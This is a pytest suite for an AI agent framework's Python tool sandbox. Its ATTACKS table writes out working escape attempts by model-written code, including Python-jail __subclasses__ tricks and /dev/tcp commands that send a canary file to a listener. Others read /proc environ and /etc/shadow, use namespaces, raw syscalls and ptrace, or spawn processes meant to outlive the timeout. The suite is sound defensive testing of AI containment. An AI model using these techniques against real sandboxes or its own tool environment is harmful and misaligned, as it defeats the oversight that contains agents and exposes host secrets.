"""Escape attempts against the Python tool's sandbox (isolation="os"), issue 22 section 1 and the
classic Python-jail escapes: each runs as model-written code would, and the test checks from
outside that a canary file next to the caller stays unread and unwritten, nothing new appears
beside it, the run registry stays unread, and listeners on 127.0.0.1 (TCP, UDP) and in the
abstract Unix namespace get nothing. Attack code prints ``ESCAPED <what>`` for any step that
should have failed and did not. Skipped, with the reason, only where the isolation is refused.
"""

import hashlib
import os
import secrets
import select
import signal
import socket
import sqlite3
import textwrap
import threading
import time
from pathlib import Path

import pytest

from agentforge.tools import SandboxUnavailable, ToolResult, describe_isolation, run_python


@pytest.fixture(scope="module")
def os_isolation():
    try:
        return describe_isolation("os")
    except SandboxUnavailable as refusal:
        pytest.skip(f"OS isolation refused on this machine: {refusal}")


class Outside:
    """What the sandbox must not reach: a canary file and a run registry in a directory of the
    caller's, a secret in the caller's environment, and three listeners."""

    def __init__(self, root: Path):
        self.token = secrets.token_hex(16)
        self.dir = root / "outside"
        self.dir.mkdir()
        self.canary = self.dir / "canary.txt"
        self.canary.write_text(f"canary {self.token}\n")
        self.registry = self.dir / "registry.sqlite"
        with sqlite3.connect(self.registry) as db:
            db.execute("CREATE TABLE runs (id TEXT, secret TEXT)")
            db.execute("INSERT INTO runs VALUES ('run', ?)", (self.token,))
        db.close()
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.abstract_name = f"agentforge-canary-{self.token}"
        self.abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.abstract.bind("\0" + self.abstract_name)
        self.abstract.listen()
        self.stdlib_os = Path(os.__file__).resolve()
        self.snapshot = self._state()

    def _state(self):
        files = {p.name: (p.stat().st_mtime_ns, hashlib.sha256(p.read_bytes()).hexdigest()) for p in self.dir.iterdir()}
        return files, hashlib.sha256(self.stdlib_os.read_bytes()).hexdigest()

    def prologue(self) -> str:
        return textwrap.dedent(f"""\
            CANARY, OUTSIDE, REGISTRY = {str(self.canary)!r}, {str(self.dir)!r}, {str(self.registry)!r}
            PORT, UDP_PORT, ABSTRACT = {self.tcp.getsockname()[1]}, {self.udp.getsockname()[1]}, {self.abstract_name!r}
            HOST_PID = {os.getpid()}
            def attempt(what, action):
                try:
                    action()
                except BaseException:
                    return
                print("ESCAPED", what)
            """)

    def epilogue(self) -> str:
        """Run after every attack: the reads, writes and connections the attack was meant to open up."""
        return textwrap.dedent("""
            import os as _os, socket as _socket
            attempt("read canary", lambda: print(open(CANARY).read()))
            attempt("append canary", lambda: open(CANARY, "a").write("pwned"))
            attempt("create outside", lambda: open(_os.path.join(OUTSIDE, "new.txt"), "w").write("pwned"))
            attempt("tcp", lambda: _socket.create_connection(("127.0.0.1", PORT), timeout=1).send(b"pwned"))
            attempt("udp", lambda: _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(
                b"x", ("127.0.0.1", UDP_PORT)))
            attempt("abstract unix", lambda: _socket.socket(_socket.AF_UNIX).connect("\\0" + ABSTRACT))
            attempt("/etc/passwd", lambda: print(open("/etc/passwd").read()))
            """)

    def assert_contained(self, result: ToolResult) -> None:
        assert "ESCAPED" not in result.output, result.output
        assert self.token not in result.output and "root:x:0:0" not in result.output, result.output
        assert self._state() == self.snapshot, "something outside the sandbox was written"
        for listener in (self.tcp, self.udp, self.abstract):
            assert not select.select([listener], [], [], 0.05)[0], f"{listener} was reached"

    def close(self) -> None:
        for s in (self.tcp, self.udp, self.abstract):
            s.close()


@pytest.fixture
def outside(os_isolation, tmp_path, monkeypatch):
    monkeypatch.setenv("AGENTFORGE_CANARY_ENV", "leaked-environment")
    place = Outside(tmp_path)
    yield place
    place.close()


def attack(outside: Outside, code: str, **limits) -> ToolResult:
    result = run_python(outside.prologue() + textwrap.dedent(code) + outside.epilogue(), **limits)
    assert "leaked-environment" not in result.output
    outside.assert_contained(result)
    return result


ATTACKS = {
    # issue 22: switching the old audit-hook sandbox off from inside
    "tamper with the sandbox's own globals": """
        import gc, sys
        for obj in gc.get_objects():
            if isinstance(obj, dict):
                if isinstance(obj.get("BLOCKED"), set):
                    obj["BLOCKED"].clear()
                if "inside" in obj:
                    obj["inside"] = lambda *a: True
        frame = sys._getframe()
        while frame is not None:
            frame.f_globals.pop("hook", None)
            frame = frame.f_back
        """,
    "read files outside, list the host": """
        import os
        attempt("/etc/shadow", lambda: open("/etc/shadow").read())
        attempt("list outside", lambda: os.listdir(OUTSIDE))
        attempt("home", lambda: os.listdir("/home"))
        attempt("the venv", lambda: os.listdir("/usr/local/lib"))
        attempt("write /", lambda: open("/pwned", "w"))
        attempt("write the stdlib", lambda: open(os.__file__, "a"))
        """,
    "the parent's environment through /proc": """
        import os
        for pid in (os.getppid(), 1, HOST_PID, "self"):
            attempt(f"/proc/{pid}/environ", lambda: print(open(f"/proc/{pid}/environ").read()))
        attempt("proc listing", lambda: os.listdir("/proc"))
        attempt("sysfs", lambda: os.listdir("/sys"))
        """,
    "tcp, udp and netlink sockets": """
        import socket
        attempt("inet6", lambda: socket.socket(socket.AF_INET6).connect(("::1", PORT)))
        attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
        attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0))
        attempt("getaddrinfo", lambda: socket.getaddrinfo("localhost", PORT))
        """,
    "spawn a shell through _posixsubprocess": """
        import multiprocessing.util, sys
        shell = f"echo pwned > /dev/tcp/127.0.0.1/{PORT}; cat {CANARY} > /dev/tcp/127.0.0.1/{PORT}".encode()
        python = sys.executable.encode()
        attempt("spawnv_passfds sh", lambda: multiprocessing.util.spawnv_passfds(b"/bin/sh", [b"sh", b"-c", shell], ()))
        attempt("spawnv_passfds python", lambda: multiprocessing.util.spawnv_passfds(
            python, [python, b"-c", f"open({CANARY!r}, 'a').write('x')".encode()], ()))
        import os
        attempt("fork", os.fork)
        attempt("posix_spawn", lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", "1"], {}))
        """,
    "os.open with dir_fd through a symlink": """
        import os
        os.symlink(CANARY, "link")
        os.symlink(OUTSIDE, "dirlink")
        here = os.open(".", os.O_RDONLY)
        attempt("dir_fd read", lambda: print(os.read(os.open("link", os.O_RDONLY, dir_fd=here), 100)))
        attempt("dir_fd write", lambda: os.open("dirlink/new.txt", os.O_WRONLY | os.O_CREAT, dir_fd=here))
        attempt("absolute dir_fd", lambda: os.open(OUTSIDE, os.O_RDONLY | os.O_DIRECTORY))
        """,
    "mkfifo and mknod outside": """
        import os, stat
        attempt("mkfifo outside", lambda: os.mkfifo(os.path.join(OUTSIDE, "fifo")))
        attempt("mkfifo /", lambda: os.mkfifo("/fifo"))
        attempt("mknod a disk", lambda: os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(8, 0)))
        """,
    "sqlite3 outside and the run registry": """
        import sqlite3
        attempt("sqlite create", lambda: sqlite3.connect(OUTSIDE + "/made.db").execute("CREATE TABLE t (x)"))
        attempt("registry", lambda: print(sqlite3.connect(f"file:{REGISTRY}?mode=ro", uri=True)
                                          .execute("SELECT secret FROM runs").fetchall()))
        db = sqlite3.connect(":memory:")
        attempt("attach", lambda: db.execute(f"ATTACH DATABASE '{OUTSIDE}/attached.db' AS a").execute(
            "CREATE TABLE a.t (x)"))
        """,
    "namespaces and capabilities": """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        CLONE_NEWUSER, CLONE_NEWNET, CLONE_NEWNS = 0x10000000, 0x40000000, 0x00020000
        def refused(name, result):
            if result == -1 and ctypes.get_errno() == 1:  # EPERM
                return
            print("ESCAPED", name, result, ctypes.get_errno())
        refused("unshare user", libc.unshare(CLONE_NEWUSER))
        refused("unshare net", libc.unshare(CLONE_NEWNET))
        refused("setns", libc.setns(0, CLONE_NEWNET))
        refused("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
        refused("umount", libc.umount2(b"/tmp", 2))
        refused("chroot", libc.chroot(b"/tmp"))
        refused("raw clone newuser", libc.syscall(56, CLONE_NEWUSER | 17, 0, 0, 0, 0))
        refused("raw clone newns", libc.syscall(56, CLONE_NEWNS | 17, 0, 0, 0, 0))
        attempt("setuid 0", lambda: os.setuid(0))
        attempt("raise a hard rlimit", lambda: __import__("resource").setrlimit(
            __import__("resource").RLIMIT_NOFILE, (4096, 4096)))
        """,
    "raw syscalls through ctypes": """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        def refused(name, number, *args):
            result = libc.syscall(number, *args)
            if result == -1 and ctypes.get_errno() == 1:
                return
            print("ESCAPED", name, result, ctypes.get_errno())
        refused("socket AF_INET", 41, 2, 1, 0)
        refused("socketpair AF_INET", 53, 2, 1, 0, None)
        refused("x32 socket", 0x40000000 | 41, 2, 1, 0)
        refused("x32 getpid", 0x40000000 | 39)
        refused("ptrace traceme", 101, 0, 0, 0, 0)
        refused("ptrace attach", 101, 16, 1, 0, 0)
        refused("process_vm_readv", 310, 1, None, 0, None, 0, 0)
        refused("io_uring_setup", 425, 1, None)
        refused("bpf", 321, 0, None, 0)
        refused("perf_event_open", 298, None, 0, -1, -1, 0)
        refused("userfaultfd", 323, 0)
        refused("keyctl", 250, 0, 0, 0, 0, 0)
        refused("add_key", 248, b"user", b"k", b"v", 1, 0xfffffffd)
        refused("open_by_handle_at", 304, 0, None, 0)
        refused("kexec_load", 246, 0, 0, None, 0)
        refused("init_module", 175, None, 0, b"")
        refused("pidfd_getfd", 438, 0, 0, 0)
        """,
    "__subclasses__ to os.system": """
        import os  # what a jail's host has loaded; -S starts the sandbox without it
        wrap_close = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0]
        system = wrap_close.__init__.__globals__["system"]
        status = system(f"cat {CANARY} > /dev/tcp/127.0.0.1/{PORT}")
        if status == 0:
            print("ESCAPED system")
        loader = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "BuiltinImporter"][0]
        posix = loader.load_module("posix")
        attempt("posix open", lambda: print(posix.read(posix.open(CANARY, posix.O_RDONLY), 100)))
        """,
    "gc.get_objects to a module": """
        import gc, types
        modules = [o for o in gc.get_objects() if isinstance(o, types.ModuleType)]
        for module in modules:
            if module.__name__ in ("os", "posix") and hasattr(module, "open"):
                attempt(f"{module.__name__}.open",
                        lambda: print(module.read(module.open(CANARY, module.O_RDONLY), 100)))
        """,
    "frames and builtins": """
        import sys
        frame = sys._getframe()
        while frame.f_back is not None:
            frame = frame.f_back
        importer = frame.f_builtins["__import__"]
        attempt("frame builtins", lambda: print(importer("io").open(CANARY).read()))
        attempt("frame globals", lambda: print(getattr(frame.f_globals["__builtins__"], "open")(CANARY).read()))
        """,
    "code objects": """
        import types
        def reader():
            return open("/nonexistent").read()
        code = reader.__code__.replace(co_consts=tuple(CANARY if c == "/nonexistent" else c
                                                      for c in reader.__code__.co_consts))
        attempt("rebuilt code", lambda: print(types.FunctionType(code, globals())()))
        attempt("exec", lambda: exec(compile(f"print(open({CANARY!r}).read())", "<x>", "exec")))
        """,
    # SIGURG: ignored by default, so a broken sandbox shows up in the test's handler rather than
    # killing the machine's processes
    "signals to the caller and every process": """
        import ctypes, os, signal
        attempt("signal the caller", lambda: os.kill(HOST_PID, signal.SIGURG))
        attempt("signal every process", lambda: os.kill(-1, signal.SIGURG))  # all this one may signal
        PTRACE_SEIZE = 0x4206  # attaches without stopping the caller, were it allowed
        attempt("ptrace the caller", lambda: ctypes.CDLL(None).ptrace(PTRACE_SEIZE, HOST_PID, 0, 0) == 0 or 1 / 0)
        """,
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_attack_is_contained(outside, name):
    received = []
    previous = signal.signal(signal.SIGURG, lambda *_: received.append(True))
    try:
        result = attack(outside, ATTACKS[name])
        time.sleep(0.05)
    finally:
        signal.signal(signal.SIGURG, previous)
    assert not received, "a signal from the sandbox reached the caller"
    assert result.ok, f"the attack did not run to its end: {result.output}"


def test_a_foreign_syscall_abi_kills_the_sandbox(outside):
    # int 0x80 is the i386 ABI: the filter's architecture check kills the process (a kernel
    # without IA-32 emulation answers with SIGSEGV instead)
    result = attack(
        outside,
        """
        import ctypes, mmap
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(bytes([0xb8, 0x14, 0, 0, 0, 0xcd, 0x80, 0xc3]))  # mov eax, 20 (getpid); int 0x80; ret
        pid = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
        print("ESCAPED int 0x80", pid)
        """,
    )
    assert result.output in ("error: killed by the seccomp filter", "error: signal 11"), result.output


def _tasks_named(name: str) -> list[str]:
    found = []
    for comm in Path("/proc").glob("[0-9]*/task/[0-9]*/comm"):
        try:
            if comm.read_text().strip() == name:
                found.append(str(comm.parent))
        except OSError:
            continue
    return found


def test_nothing_outlives_the_timeout(outside):
    name = f"afcan{secrets.token_hex(4)}"  # a task name (comm) the host can look for
    seen, done = [], threading.Event()

    def watch():  # while the sandbox runs: proof that the check below can see its tasks
        while not done.wait(0.05):
            seen.append(bool(_tasks_named(name)))

    watcher = threading.Thread(target=watch)
    watcher.start()
    result = attack(
        outside,
        f"""
        import ctypes, os, threading, time
        libc = ctypes.CDLL(None)
        def linger():
            libc.prctl(15, {name!r}.encode())  # PR_SET_NAME
            time.sleep(60)
        threading.Thread(target=linger).start()
        try:
            os.setsid()  # the escape of issue 22: a child in a session of its own
        except OSError:
            pass
        attempt("fork a session leader", lambda: os.fork() == 0 and time.sleep(60))
        libc.prctl(15, {name!r}.encode())
        time.sleep(60)
        """,
        timeout_s=2.0,
    )
    done.set()
    watcher.join()
    assert result == ToolResult("error: timed out after 2 s", False)
    assert any(seen), "the sandbox's tasks were never visible to the check"
    assert _tasks_named(name) == [], "a sandboxed task outlived the timeout"
